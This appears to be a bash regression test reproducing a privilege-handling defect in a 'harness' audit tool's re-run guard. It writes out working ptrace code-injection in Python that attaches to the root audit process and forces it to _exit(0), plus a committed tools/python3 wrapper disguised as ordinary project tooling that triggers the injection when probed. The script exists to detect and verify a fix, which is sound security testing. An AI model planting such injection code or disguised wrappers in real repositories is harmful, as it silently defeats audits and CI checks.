#!/usr/bin/env bash
# Defect (harness/history/audit.py _job.make, harness/history/rerun/isolation.py RerunGuard.__init__/learn/_probe):
# F-0577's answer to a seal that cannot take CAP_SYS_PTRACE away (a root audit without CAP_SETPCAP, whose bounding set
# keeps it) is Sealed.reachable -> guard.poisoned, "nothing re-runs". But the poisoning is set only AFTER
# RerunGuard(...) returns, and its constructor's learn() already probed every interpreter the configured commands
# name — a relative one with a slash is taken from the checkout (tree_imports.candidates), i.e. the audited branch's
# own file. A committed `tools/python3` runs as root with CAP_SYS_PTRACE during that probe, attaches to the audit and
# makes it _exit(0): the audit the seal judged reachable exits 0 over a commit whose check fails.
# Control: the same injection from check.py (a re-run proper) is stopped: the audit re-runs nothing, exit 2.
# Exit 1 while the defect is present, 0 when fixed, 2 on a setup failure (needs root, setpriv, Linux x86_64).
set -u
here=$(cd "$(dirname "$0")/../.." && pwd); export PATH="$here/.venv/bin:$PATH"
T=$(mktemp -d); trap 'rm -rf "$T"' EXIT
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1 HOME=$T/home
export GIT_AUTHOR_NAME=D GIT_AUTHOR_EMAIL=d@example.com GIT_COMMITTER_NAME=D GIT_COMMITTER_EMAIL=d@example.com
mkdir -p "$HOME"
command -v harness >/dev/null || { echo "setup failed: no harness in $here/.venv"; exit 2; }
[ "$(uname -s)-$(uname -m)" = Linux-x86_64 ] || { echo "setup: needs Linux x86_64"; exit 2; }
[ "$(id -u)" = 0 ] || { echo "setup: needs root (to start the audit without CAP_SETPCAP with setpriv)"; exit 2; }
command -v setpriv >/dev/null || { echo "setup: needs setpriv (util-linux)"; exit 2; }
D=$T/w; mkdir -p "$D"
setup() { "$@" >>"$D/log" 2>&1 || { echo "setup failed: $*"; tail -20 "$D/log"; exit 2; }; }
cd "$D"; setup git init -q --bare remote.git
setup git init -q -b main app; cd app; setup git remote add origin ../remote.git
mkdir -p .harness
printf '__pycache__/\n' > .gitignore
cat > check.py <<'PY'
# passes on the laptop; in CI's re-run (a worktree under harness-rerun-*) it fails — and, unless the control's
# marker file exists, first makes its ancestor `harness audit --rerun` call _exit(0)
import ctypes, os, sys
if "harness-rerun-" not in os.getcwd() and not os.environ.get("FROM_PROBE"):
    sys.exit(0)
MARK = "@MARK@"  # the control run creates it: no injection

def auditor():
    pid = os.getpid()
    while pid > 1:
        ppid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        cmd = open(f"/proc/{ppid}/cmdline").read()
        if "audit" in cmd and "--rerun" in cmd:
            return ppid
        pid = ppid

def libc_base(pid):
    for line in open(f"/proc/{pid}/maps"):
        parts = line.split()
        if len(parts) >= 6 and os.path.basename(parts[5]).startswith(("libc.so", "libc-")) and parts[2] == "00000000":
            return int(parts[0].split("-")[0], 16)

def inject(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    addr = ctypes.cast(libc._exit, ctypes.c_void_p).value - libc_base(os.getpid()) + libc_base(pid)
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        print(f"check: attach refused (errno {ctypes.get_errno()})", file=sys.stderr)
        return
    os.waitpid(pid, 0)
    regs = (ctypes.c_ulonglong * 27)()          # struct user_regs_struct
    libc.ptrace(12, pid, None, ctypes.byref(regs))  # PTRACE_GETREGS
    regs[16] = addr; regs[14] = 0; regs[15] = 2**64 - 1; regs[19] = (regs[19] - 256) & ~0xF  # rip, rdi, orig_rax, rsp
    libc.ptrace(13, pid, None, ctypes.byref(regs))  # PTRACE_SETREGS
    libc.ptrace(17, pid, None, None)                 # PTRACE_DETACH

if not os.path.exists(MARK):
    target = auditor()
    if target:
        try:
            inject(target)
        except Exception as exc:
            print(f"check: {exc!r}", file=sys.stderr)
print("check: 1 != 2", file=sys.stderr)
sys.exit(1)
PY
sed -i "s|@MARK@|$T/no-inject|" check.py
mkdir -p tools
cat > tools/python3 <<'SH'
#!/bin/sh
# the project's python wrapper; asked by the audit's probe (in a harness-probe-* folder) it first injects
case "$PWD" in *harness-probe-*) [ -e "@T@/probe-off" ] || FROM_PROBE=1 /usr/bin/env python3 "$(dirname "$0")/../check.py" >/dev/null 2>&1;; esac
exec /usr/bin/env python3 "$@"
SH
chmod +x tools/python3; sed -i "s|@T@|$T|" tools/python3
cat > .harness/config.yaml <<'YAML'
version: 1
evidence:
  unit_test:
    command: ["tools/python3", "check.py"]
YAML
setup harness init; setup harness install; setup git add -A; setup git commit -qm init
setup git push -q origin main; setup git remote set-head origin main
base=$(git rev-parse HEAD)
setup harness task new "Checked"
setup harness requirement add "check.py passes" --priority must
for s in SPECIFYING PLANNED IMPLEMENTING VERIFYING; do setup harness transition $s; done
setup harness evidence unit_test
setup harness requirement set REQ-001 --status verified --evidence unit_test
for e in $(harness gate 2>&1 | grep -o 'harness evidence [a-z_.]*' | awk '{print $3}' | sort -u); do
  setup harness evidence "$e"
done
setup harness transition REVIEWING; setup harness transition GATING
setup harness gate --advance
setup harness transition DONE
setup git add -A; setup git commit -qm done
audit() { rc=0; "$@" harness audit --rerun --base "$base" --to HEAD >"$D/$log" 2>&1 || rc=$?; }
nosetpcap="setpriv --bounding-set -setpcap --inh-caps -all"
# control 1: a plain root audit, nothing injected: the check fails in the re-run (refused, exit 1)
touch "$T/no-inject" "$T/probe-off"; log=control1.log; audit env
[ "$rc" = 1 ] && grep -q "does not reproduce" "$D/control1.log" || { echo "setup failed: control audit exited $rc"; tail -5 "$D/control1.log"; exit 2; }
# control 2: without CAP_SETPCAP, the injection from the re-run proper: the seal is reachable, nothing re-runs (2)
rm -f "$T/no-inject"; log=control2.log; audit $nosetpcap
[ "$rc" = 2 ] || { echo "setup: the reachable audit exited $rc, not 2 (not this defect)"; tail -5 "$D/control2.log"; exit 2; }
# the defect: the same reachable audit, the committed interpreter wrapper injecting when the guard probes it
rm -f "$T/probe-off"; log=audit.log; audit $nosetpcap
tail -3 "$D/audit.log"
if [ "$rc" = 0 ]; then
  echo "DEFECT: a root audit without CAP_SETPCAP (seal reachable: nothing should run) exited 0: the committed"
  echo "        tools/python3, probed by RerunGuard.__init__ before guard.poisoned was set, attached and _exit(0)"
  exit 1
fi
echo "fixed: audit exited $rc (the probe ran nothing of the checkout while reachable, or held no CAP_SYS_PTRACE)"; exit 0
